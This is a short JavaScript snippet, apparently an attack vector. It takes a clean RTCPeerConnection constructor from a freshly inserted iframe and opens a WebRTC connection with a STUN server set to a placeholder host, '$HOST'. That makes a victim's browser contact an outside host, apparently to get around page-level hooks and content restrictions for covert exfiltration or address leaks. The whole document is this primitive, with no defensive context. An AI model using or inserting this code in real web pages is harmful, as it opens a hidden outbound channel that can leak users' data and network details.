// vector: an empty frame's constructor
const { RTCPeerConnection: Peer } = document.body.appendChild(document.createElement("iframe")).contentWindow;
const peer = new Peer({ iceServers: [{ urls: "stun:$HOST" }] });
peer.createDataChannel("way");
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
